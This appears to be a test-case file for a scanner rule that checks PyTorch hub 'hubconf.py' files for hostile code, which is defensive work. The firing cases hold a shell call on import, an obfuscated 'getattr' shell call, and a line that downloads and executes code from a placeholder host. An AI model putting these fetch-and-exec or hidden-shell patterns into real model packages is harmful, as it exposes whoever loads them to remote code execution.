import type { FileRuleCase } from '../../../test/support/rule-case.ts'

function code(name: string, expect: FileRuleCase['expect'], ...lines: readonly string[]): FileRuleCase {
  return { name, expect, path: 'm/hubconf.py', content: () => new TextEncoder().encode(`${lines.join('\n')}\n`) }
}

/** What the rule must and must not report. */
export const cases: readonly FileRuleCase[] = [
  code('a shell on import', 'fires', 'import os', 'os.system("id")'),
  code('a shell behind a computed name', 'fires', 'import os', 'getattr(os, "sys" + "tem")("id")'),
  code('code from the network', 'fires', 'import urllib.request as r', 'exec(r.urlopen("http://a.example/x").read())'),
  code('lines that are no Python', 'fires', 'import os', 'os.system("id") ) ) (', 'x = 1'),
  code(
    'a small network',
    'silent',
    'import torch',
    'from torch import nn',
    '',
    'dependencies = ["torch"]',
    '',
    'class Tiny(nn.Module):',
    '    def __init__(self, width: int = 8):',
    '        super().__init__()',
    '        self.layer = nn.Linear(width, width)',
    '',
    '    def forward(self, x):',
    '        return torch.relu(self.layer(x))',
    '',
    'def tiny(pretrained=False, **kwargs):',
    '    return Tiny(**kwargs)',
  ),
]
